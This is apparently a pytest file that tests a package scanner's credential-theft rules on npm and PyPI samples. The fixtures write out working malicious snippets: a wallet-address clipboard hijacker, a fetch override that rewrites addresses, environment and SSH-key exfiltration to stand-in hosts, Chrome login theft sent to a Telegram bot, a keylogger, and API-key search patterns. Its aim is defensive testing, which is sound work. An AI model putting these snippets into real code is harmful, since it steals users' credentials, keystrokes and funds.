"""Secrets, clipboards, wallets and keystrokes."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Any

import pytest

from adapters.sigil.local.code.facts import Behaviour, Fact, Flow
from adapters.sigil.local.material import Ecosystem, Package
from adapters.sigil.local.phases.credentials import credentials
from adapters.sigil.models import PhaseName, Severity
from tests.adapters.sigil.local.phases.conftest import Outcome, Pack

_NPM = {
    "clipboard-wallet": (
        "const clipboard = require('clipboardy');\nsetInterval(async () => { const text = await clipboard.read();\n"
        "if (/^0x[a-fA-F0-9]{40}$/.test(text)) await clipboard.write('0x01') }, 1000)"
    ),
    "wallet-replaced": (
        "const mine = '0x1111111111111111111111111111111111111111';\nconst old = window.fetch;\n"
        "window.fetch = async (...all) => { const answer = await old(...all);\n"
        "return new Response((await answer.text()).replace(/0x[a-fA-F0-9]{40}/g, mine)) }"
    ),
    "environment-leaves": "fetch('https://x.example.invalid/', {method: 'POST', body: JSON.stringify(process.env)})",
}
_PYTHON = {
    "secret-file-leaves": (
        "import os, requests\npath = os.path.expanduser('~/.ssh/id_rsa')\n"
        "requests.post('https://x.example.invalid/k', files={'f': open(path, 'rb')})\n"
    ),
    "secret-file-read": (
        "import os, shutil, sqlite3, requests\ndef go():\n"
        "    path = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n"
        "    shutil.copy2(path, 't.db')\n    rows = sqlite3.connect('t.db').execute('select 1').fetchall()\n"
        "    requests.post('https://api.telegram.org/bot1:A/sendMessage', data={'text': str(rows)})\n"
    ),
    "input-watched": (
        "import requests\nfrom pynput import keyboard\nkeys = []\ndef pressed(key):\n    keys.append(str(key))\n"
        "    requests.post('https://k.example.invalid/', json={'k': keys})\n"
        "keyboard.Listener(on_press=pressed).start()\n"
    ),
}
_TWINS = {
    "copies when asked": "const c = require('clipboardy');\nexports.copy = (text) => c.write(text)",
    "checks addresses": "exports.isAddress = (text) => /^0x[a-fA-F0-9]{40}$/.test(text)",
    "reads one setting": "exports.debug = process.env.DEBUG; fetch('https://api.example.com/')",
    "uses a token when asked": (
        "const token = process.env.EXAMPLE_TOKEN;\n"
        "exports.list = () => fetch('https://api.example.com/v1', {headers: {authorization: token}})"
    ),
    "replaces fetch for old browsers": "if (!window.fetch) window.fetch = require('whatwg-fetch').fetch",
}


@pytest.mark.parametrize("rule", _NPM)
def test_finds_attack_in_javascript(pack: Any, outcome: Any, rule: str) -> None:
    """Each attack is found by its rule when a package is required, and is HIGH_RISK by itself."""
    result = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": _NPM[rule]}))

    assert rule in result.rules(PhaseName.CREDENTIALS)
    assert result.dangerous


@pytest.mark.parametrize("rule", _PYTHON)
def test_finds_attack_in_python(pack: Any, outcome: Any, rule: str) -> None:
    """Each attack is found by its rule when a package is imported, and is HIGH_RISK by itself."""
    result = outcome(pack({"sample/__init__.py": _PYTHON[rule]}, Ecosystem.PYPI, "sample-1.0-py3-none-any.whl"))

    assert rule in result.rules(PhaseName.CREDENTIALS)
    assert result.dangerous


@pytest.mark.parametrize("twin", _TWINS)
def test_twins_are_not_dangerous(pack: Any, outcome: Any, twin: str) -> None:
    """What honest packages do in a similar way is at most a hint."""
    assert outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": _TWINS[twin]})).score < 10


def severity_of(rule: str, scanned: Any) -> Severity | None:
    return next((each.severity for each in credentials(scanned) if each.rule == rule), None)


def test_a_clients_token_for_its_service_is_information(made: Any, fact: Callable[..., Fact]) -> None:
    """A named variable that is sent when somebody calls a function is what every client does."""
    token = fact(Behaviour.READS_ENVIRONMENT, "OPENAI_API_KEY", at_load=False)
    flow = Flow(source=token, sink=fact(Behaviour.SENDS, "https://api.openai.com/v1", 2, at_load=False))

    assert severity_of("environment-leaves", made({"index.js": (flow,)})) is Severity.INFO


def test_settings_of_tools_are_no_loot(made: Any, fact: Callable[..., Fact]) -> None:
    """Reading `.npmrc` is a hint; reading a private key at load is grave."""
    read = Behaviour.READS_SECRET_FILE

    assert severity_of("secret-file-read", made({"index.js": (fact(read, "~/.npmrc"),)})) is Severity.LOW
    assert severity_of("secret-file-read", made({"index.js": (fact(read, "~/.ssh/id_rsa"),)})) is Severity.MEDIUM


_KEPT = {
    "kept/member.py": "def note(o):\n    requests.post('https://log.far.invalid', json={'p': o.password})\n",
    "kept/entry.py": "def note(o):\n    requests.post('https://log.far.invalid', json={'p': o['password']})\n",
    "kept/field.py": (
        "class Account:\n    address: str\n    private_key: str\n    def told(self):\n"
        "        return {'k': self.private_key}\ndef note(account):\n"
        "    requests.post('https://log.far.invalid', json=account.told())\n"
    ),
}


@pytest.mark.parametrize("path", _KEPT)
def test_kept_secrets_leave(path: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
    """Keys and passwords that an object of the caller keeps are his as much as those that he hands over."""
    found = outcome(pack({path: f"import requests\n{_KEPT[path]}"}, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl"))
    assert "handed-secret-leaves" in found.rules(PhaseName.CREDENTIALS)
    assert found.dangerous


def test_kept_secrets_leave_from_an_object(pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
    """The same for the options that a class of JavaScript keeps."""
    code = (
        "class Session { constructor(options) { this.options = options; } open() { note(this.options); } }\n"
        "function note(o) { fetch('https://log.far.invalid', { method: 'POST', body: o.user + o.privateKey }); }\n"
        "module.exports = Session;"
    )
    assert "handed-secret-leaves" in outcome(pack({"package.json": {}, "index.js": code})).rules(PhaseName.CREDENTIALS)


@pytest.mark.parametrize("code", ["o.url, o.password", "o.url, {'p': o['password']}"])
def test_kept_secrets_go_where_the_caller_says(code: str, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
    """A client that logs in at an address that it is given is everyday."""
    files = {"sample/__init__.py": f"import requests\ndef log_in(o):\n    requests.post({code})\n"}
    assert outcome(pack(files, Ecosystem.PYPI, "sample-1.0.0-py3-none-any.whl")).score < 10


def test_gathered_here_and_sent_there(pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
    """One file reads secrets, another sends, and the entry hands the one's answer to the other at load."""
    files: dict[str, str | Mapping[str, object]] = {
        "package.json": {"name": "sample", "main": "index.js"},
        "index.js": "const gather = require('./gather'); const send = require('./send');\nsend(gather());",
        "gather.js": "module.exports = () => require('fs').readFileSync('/root/.ssh/id_rsa', 'utf8');",
        "send.js": "module.exports = (d) => fetch('https://far.invalid/i', { method: 'POST', body: d });",
    }
    found = outcome(pack(files))
    assert "gathered-and-sent" in found.rules(PhaseName.CREDENTIALS)
    assert found.dangerous
    files["index.js"] = "exports.gather = require('./gather'); exports.send = require('./send');"
    assert not outcome(pack(files)).dangerous


@pytest.mark.parametrize(("sends", "dangerous"), [("https://far.invalid/k", True), ("/log", False)])
def test_patterns_of_keys(sends: str, dangerous: bool, pack: Pack, outcome: Callable[[Package], Outcome]) -> None:
    """Patterns of several services' keys redact as a rule; over the machine's files, and sent abroad, they gather."""
    code = (
        "const text = require('fs').readFileSync('settings.json', 'utf8');\n"
        "const found = [/sk-ant-[\\w-]{20,}/g, /hf_\\w{30,}/g].flatMap((p) => text.match(p) || []);\n"
        f"fetch('{sends}', {{ method: 'POST', body: found.join() }});"
    )
    found = outcome(pack({"package.json": {"name": "sample", "main": "index.js"}, "index.js": code}))
    assert ("key-search" in found.rules(PhaseName.CREDENTIALS)) is dangerous
